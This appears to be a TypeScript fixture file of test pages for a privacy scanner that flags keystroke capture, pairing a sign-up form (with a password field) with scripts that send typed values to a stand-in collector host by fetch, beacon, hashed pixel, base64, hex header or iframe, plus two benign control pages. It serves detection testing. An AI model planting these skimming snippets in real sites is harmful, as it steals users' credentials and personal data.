/** What is typed and not sent: taken by several ways, or kept for the site's own search. */
import type { PrivacyPage } from '../page.ts'

const FORM =
  '<form action="/newsletter" method="post" onsubmit="return false"><label>E-mail <input type="email" name="email" autocomplete="email"></label><label>Name <input type="text" name="name"></label><label>Password <input type="password" name="password"></label><button>Sign up</button></form>'
const TO = 'https://collect.keystream.test'
const js = (code: string): string => `<script>${code}</script>`
const onInput = (send: string): string =>
  `document.querySelectorAll('input').forEach((i)=>i.addEventListener('input',async()=>{const v=i.value;if(v.length<4)return;${send}}))`
const DEBOUNCED = (send: string): string =>
  `let t;document.addEventListener('input',(e)=>{clearTimeout(t);t=setTimeout(()=>{const v=e.target.value;${send}},900)})`
const HASH =
  "const h=[...new Uint8Array(await crypto.subtle.digest('SHA-256',new TextEncoder().encode(v.trim().toLowerCase())))].map((b)=>b.toString(16).padStart(2,'0')).join('');"

export const KEYS: readonly PrivacyPage[] = [
  {
    name: 'keys-fetch',
    shows: 'every value goes to a third party by fetch',
    must: ['key-capture'],
    body: FORM + js(onInput(`fetch('${TO}/k',{method:'POST',mode:'no-cors',body:JSON.stringify({f:i.name,v})})`)),
  },
  {
    name: 'keys-beacon',
    shows: 'values go by beacon when the field is left',
    must: ['key-capture'],
    body:
      FORM +
      js(
        `document.querySelectorAll('input').forEach((i)=>i.addEventListener('blur',()=>{if(i.value)navigator.sendBeacon('${TO}/b',new URLSearchParams({v:i.value}))}))`,
      ),
  },
  {
    name: 'keys-hashed',
    shows: 'the e-mail address goes as SHA-256 in the address of a picture',
    must: ['key-capture'],
    body: FORM + js(onInput(`${HASH}new Image().src='${TO}/p?em='+h`)),
  },
  {
    name: 'keys-debounced',
    shows: 'the value goes in base64, most of a second after the last key',
    must: ['key-capture'],
    body: FORM + js(DEBOUNCED(`fetch('${TO}/d?v='+btoa(v),{mode:'no-cors'})`)),
  },
  {
    name: 'keys-hex-header',
    shows: 'the value goes in hex in a header',
    must: ['key-capture'],
    body:
      FORM +
      js(
        DEBOUNCED(
          `fetch('${TO}/h',{headers:{'X-Trace':[...new TextEncoder().encode(v)].map((b)=>b.toString(16).padStart(2,'0')).join('')}}).catch(()=>undefined)`,
        ),
      ),
    may: [],
  },
  {
    name: 'keys-frame',
    shows: 'a form inside a frame of the site gives its values away',
    must: ['key-capture'],
    body: '<iframe src="/form" width="400" height="200"></iframe>',
    paths: {
      '/form': {
        type: 'text/html',
        body: `<!doctype html><title>Form</title>${FORM}${js(onInput(`fetch('${TO}/f?v='+encodeURIComponent(v),{mode:'no-cors'})`))}`,
      },
    },
  },
  {
    name: 'keys-own-search',
    shows: 'twin: the search suggests while one types, at the site itself',
    must: [],
    body:
      '<form role="search" onsubmit="return false"><input type="search" name="q" aria-label="Search"></form>' +
      js(
        "document.querySelector('[name=q]').addEventListener('input',(e)=>fetch('/suggest?q='+encodeURIComponent(e.target.value)))",
      ),
    paths: { '/suggest': { type: 'application/json', body: '[]' } },
  },
  {
    name: 'keys-checked-here',
    shows: 'twin: the form checks what is typed, in the page, and calls a third party that gets nothing of it',
    must: [],
    body:
      FORM +
      js(
        `${onInput("i.setCustomValidity(v.includes('@')||i.type!=='email'?'':'an address, please')")};document.addEventListener('focusin',()=>fetch('https://cdn.assets-depot.test/help?topic=forms',{mode:'no-cors'}))`,
      ),
  },
]
